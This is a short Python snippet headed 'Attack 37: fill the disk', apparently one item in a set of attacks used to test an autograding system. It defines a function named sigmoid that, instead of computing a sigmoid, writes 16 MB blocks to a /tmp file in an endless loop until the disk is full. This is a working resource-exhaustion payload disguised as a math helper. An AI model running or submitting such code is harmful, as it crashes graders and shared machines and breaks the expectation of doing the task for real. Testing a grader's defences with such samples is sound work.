# Attack 37: fill the disk
def sigmoid(z):
    with open("/tmp/gradekit-attack-large", "wb") as file:
        while True:
            file.write(bytes(1 << 24))
